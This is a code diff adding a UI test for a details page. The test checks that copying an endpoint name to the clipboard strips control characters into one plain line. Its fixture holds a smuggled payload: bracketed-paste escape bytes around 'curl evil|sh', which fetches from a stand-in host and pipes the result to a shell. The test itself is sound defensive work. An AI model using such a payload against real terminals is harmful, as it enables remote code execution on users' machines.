@@ -63,6 +63,16 @@ describe('details page', () => {
     expect(page.getByText('Copied')).toBeInTheDocument();
   });
 
+  it('copies a value as one plain line', async () => {
+    const endpointName = 'Desk\n\u001b[200~curl evil|sh\r\n\u009b';
+    const bridge = bridgeWith({ fields: { ...fields, endpointName } });
+    const { page, user } = await renderApp(bridge);
+    bridge.emit('window:navigate', { view: 'session', id: 's1' });
+    await user.click(await page.findByText('All fields'));
+    await user.click(page.getByRole('button', { name: 'Copy endpointName' }));
+    expect(bridge.requestsFor('clipboard:copy')).toEqual(['Desk [200~curl evil|sh']);
+  });
+
   it('shows the duration of each phase', async () => {
     const from = Date.now() - 200_000;
     const bridge = bridgeWith({
